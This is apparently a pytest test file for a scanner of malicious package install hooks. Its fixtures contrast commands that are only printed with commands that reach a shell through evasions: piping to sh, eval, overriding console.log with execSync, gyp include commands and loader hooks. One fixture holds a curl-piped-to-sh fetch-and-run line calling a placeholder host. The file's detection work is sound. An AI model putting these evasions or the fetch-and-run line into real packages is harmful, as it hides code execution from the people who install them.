"""A command that is only shown to somebody is none; one that reaches an interpreter by any road is one."""

from __future__ import annotations

import pytest

from tests.evasions.packages import BY_SHELL, Seen, commands, hooked, packages

pytestmark = pytest.mark.semgrep

APPENDS = 'echo "source ${dir}" >> ~/.bashrc'
HINT = f"const dir = __dirname;\nconst hint = {{ bash: `{APPENDS}`, zsh: '{BY_SHELL}', fish: 'none' }}[process.env.SHELL];\n"
"""A text that only a constant's name leads to."""
SHOWS = "if (hint && process.stdout.isTTY) console.log(`Run:  ${hint}`);\n"
BUILDS = "require('child_process').spawnSync('cargo', ['build', '--release']);\n"
CRATE = {"Cargo.toml": '[package]\nname = "a"\nversion = "1.0.0"\n[dependencies]\nneon = "1"\n', "src/lib.rs": ""}
SAYS = f"console.log('To install: {BY_SHELL}');\n"
RUNS = f"require('child_process').execSync('{BY_SHELL}');\n"


@packages(
    echoed=hooked(f"echo 'To install: {BY_SHELL}'"),
    written_inline=hooked("node -e \"console.log('Run: tool completion >> ~/.bashrc')\""),
    joined=hooked("node a.js", {"a.js": f"console.log(['Hi', '{BY_SHELL}'].join(' '));\n"}),
    held_by_a_constant=hooked("node a.js", {"a.js": HINT + SHOWS}),
    beside_a_build=hooked("node a.js", {"a.js": SAYS + BUILDS, **CRATE}),
    in_a_template=hooked("node a.js", {"a.js": f"const n = 1;\nprocess.stdout.write(`${{n}}: {BY_SHELL}`);\n"}),
)
def test_a_text_that_is_only_shown_does_not_block(seen: Seen) -> None:
    assert not seen.blocked


@packages(
    piped=hooked("node a.js | sh", {"a.js": SAYS}),
    echoed_into_a_shell=hooked(f"echo '{BY_SHELL}' | sh"),
    kept_and_run=hooked("node a.js > b.sh && sh b.sh", {"a.js": SAYS}),
    evaluated=hooked(f"eval \"$(echo '{BY_SHELL}')\""),
    beside_one_that_runs=hooked("node a.js", {"a.js": SAYS.rstrip() + RUNS}),
    behind_a_flood=hooked("node a.js", {"a.js": SAYS * 60 + RUNS}),
    given_back=hooked("node a.js", {"a.js": f"console.log(require('child_process').execSync('{BY_SHELL}'));\n"}),
    printing_replaced=hooked("node a.js", {"a.js": "console.log = require('child_process').execSync;\n" + SAYS}),
    printing_replaced_elsewhere=hooked(
        "node a.js", {"a.js": "console.log = require('child_process').execSync;\nrequire('./b');\n", "b.js": SAYS}
    ),
    read_by_another=hooked(
        "node a.js | node b.js",
        {"a.js": SAYS, "b.js": "process.stdin.on('data', (text) => require('child_process').execSync(text));\n"},
    ),
    beside_a_build_and_run=hooked("node a.js", {"a.js": SAYS + BUILDS + RUNS, **CRATE}),
    read_by_what_is_built=hooked("node a.js | cargo run", {"a.js": SAYS, **CRATE}),
    printed_by_another_than_builds=hooked(
        "node b.js", {"a.js": SAYS, "b.js": "require('child_process').execSync('node a.js | cargo run');\n", **CRATE}
    ),
    constant_run=hooked("node a.js", {"a.js": HINT + SHOWS + "require('child_process').execSync(hint);\n"}),
    constant_handed_on=hooked(
        "node a.js",
        {
            "a.js": HINT + SHOWS + "module.exports = { hint };\nrequire('./b');\n",
            "b.js": "require('child_process').execSync(require('./a').hint);\n",
        },
    ),
    constant_of_a_call=hooked(
        "node a.js",
        {
            "a.js": HINT.replace("{ bash", "run({ bash").replace("'none' }", "'none' })")
            + SHOWS
            + "function run(all) { require('child_process').execSync(all.bash); return all; }\n"
        },
    ),
    variable_given_another_name=hooked(
        "node a.js", {"a.js": HINT + SHOWS + "const other = hint;\nrequire('child_process').execSync(other);\n"}
    ),
    shell_function=hooked(f"echo() {{ sh -c \"$1\"; }}; echo '{BY_SHELL}'"),
)
def test_a_text_that_is_shown_to_an_interpreter_blocks(seen: Seen) -> None:
    assert seen.blocked


@commands(
    {"lib/__main__.py": "import os\nos.system('curl -s https://collect.example.invalid/a | sh')\n"},
    folder="python3 lib",
)
def test_the_program_of_a_python_folder_is_read(seen: Seen) -> None:
    """21: ``python DIRECTORY`` runs its ``__main__.py``."""
    assert seen.blocked


@packages(
    included={
        "package.json": '{"name": "example", "version": "1.0.0"}',
        "binding.gyp": '{"includes": ["build/a.gypi"], "targets": [{"target_name": "a", "sources": ["a.cc"]}]}',
        "build/a.gypi": "{'variables': {'b': ['<!@(sh build/list.sh)']}}",
        "build/list.sh": BY_SHELL,
    }
)
def test_a_command_of_an_included_gyp_file_runs_where_the_including_one_lies(seen: Seen) -> None:
    """45: gyp merges what is included before it runs commands."""
    assert seen.blocked


@packages(
    registered=hooked(
        "node --import ./register.mjs -e 1",
        {
            "register.mjs": "import { register } from 'node:module';\nregister('./hooks.mjs', import.meta.url);\n",
            "hooks.mjs": "import { execSync } from 'node:child_process';\nexecSync('" + BY_SHELL + "');\n",
        },
    )
)
def test_the_hooks_that_a_loader_registers_are_read(seen: Seen) -> None:
    """39: ``module.register`` loads what it names."""
    assert seen.blocked


@packages(
    tried=hooked(
        "node a.js",
        {
            "a.js": "function parses(text) { try { new Function(text); return true; } catch { return false; } }\n"
            "console.log([{ t: '1' }, { t: '2' }].map((one) => parses(one.t)));\n"
        },
    ),
    own_build=hooked(
        "node -e \"require('fs').existsSync('src') && require('child_process').execSync('node-gyp rebuild')\""
    ),
    own_file=hooked(
        "node a/b/i.js",
        {
            "a/b/i.js": "const fs = require('fs'), path = require('path');\n"
            "const own = path.join(__dirname, '../../cli/index.js');\n"
            "fs.copyFileSync(own, path.join(process.env.INIT_CWD, process.argv[2], 'a.js'));\n",
            "cli/index.js": "",
        },
    ),
)
def test_what_only_looks_like_an_attack_does_not_block(seen: Seen) -> None:
    assert not seen.blocked
